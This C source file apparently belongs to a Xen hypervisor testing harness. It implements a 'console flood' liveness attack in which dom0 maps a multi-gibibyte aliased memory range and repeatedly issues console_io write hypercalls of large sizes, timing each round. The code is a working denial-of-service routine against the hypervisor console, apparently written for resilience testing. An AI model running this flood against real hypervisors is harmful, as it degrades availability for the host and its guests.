/*
 * dom0's console flood (see console_flood.h).
 */
#include <stdint.h>
#include <xen/xen.h>
#include <guest/hypercall.h>
#include <runtime/aliased_range.h>
#include <runtime/clock.h>
#include <runtime/console.h>
#include "console_flood.h"

#define FLOOD_GIBIBYTES 4
#define FLOOD_LINE "dom0 console flood: every byte of this line is read from an aliased range"

static struct aliased_range_pages flood_pages;
static uint64_t flood_start;

static long map_flood_range(void)
{
    long result;

    if (flood_start != 0)
        return 0;
    result = aliased_range_map(&flood_pages, FLOOD_LINE, CONSOLE_FLOOD_L4_SLOT, FLOOD_GIBIBYTES, &flood_start);
    if (result != 0)
        console_printf("console flood: mapping the aliased range failed: %ld\n", result);
    return result;
}

long console_flood(uint64_t bytes, uint64_t rounds)
{
    long result = map_flood_range();

    for (uint64_t round = 0; round < rounds && result == 0; round++) {
        uint64_t started_ns = system_time_ns();

        console_printf("LIVENESS attack console-dom0: round %lu: console_io write of %lu bytes\n", round, bytes);
        result = hypercall3(__HYPERVISOR_console_io, CONSOLEIO_write, bytes, flood_start);
        console_printf("LIVENESS attack console-dom0: round %lu: result %ld in %lu ns\n", round, result,
                       system_time_ns() - started_ns);
    }
    return result;
}
